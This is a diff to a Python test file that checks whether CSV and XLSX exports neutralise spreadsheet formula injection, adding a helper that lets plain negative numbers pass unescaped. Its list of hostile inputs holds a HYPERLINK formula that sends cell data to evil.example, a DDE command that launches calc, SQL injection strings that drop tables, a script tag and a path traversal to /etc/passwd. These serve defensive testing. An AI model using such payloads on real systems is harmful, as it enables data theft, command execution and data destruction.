@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import inspect
 import io
+import re
 from datetime import date, datetime, timedelta
 from decimal import Decimal
 
@@ -25,6 +26,11 @@ from pipelines.validators import clean_text
 from tests.conftest import Org
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def runs_as_formula(cell: str) -> bool:
+    """Text Excel would run: a formula start, except a negative number (Excel reads -5 as -5)."""
+    return cell.startswith(FORMULA_START) and not re.fullmatch(r"-\d+(\.\d+)?", cell)
 NASTY = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
          "'; DROP TABLE follow_ups; --", "Robert'); DELETE FROM customers; --", "1 OR 1=1", "$id", "?", "%s {0} {field}",
          "<script>alert(1)</script>", "../../etc/passwd", "\x00\x01\x07", "\t=1+1", "\r=1", "第一行\n第二行", "全角\u3000空格",
@@ -80,7 +86,7 @@ def _check_export(value: str) -> None:
     frame = pl.DataFrame({"value": [value]})
     rows = list(csv.reader(io.StringIO(exports.to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
     got = rows[1][0] if len(rows) > 1 and rows[1] else ""
-    assert got == ("'" + value if value.startswith(FORMULA_START) else value)
+    assert got == ("'" + value if runs_as_formula(value) else value)
     book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes({"s": frame})))
     assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
 
@@ -166,7 +172,7 @@ def test_importer_takes_hostile_files(hostile_store, tmp_path_factory, names, su
     if result.rows_rejected:
         with open(result.rejects_path, encoding="utf-8-sig", newline="") as f:
             cells = [c for row in csv.reader(f) for c in row]
-        assert not [c for c in cells if c.startswith(FORMULA_START)], "formulas in the rejects file"
+        assert not [c for c in cells if runs_as_formula(c)], "formulas in the rejects file"
 
 
 def test_importer_keeps_a_formula_verbatim_and_neutralises_it_in_rejects(hostile_store, tmp_path):
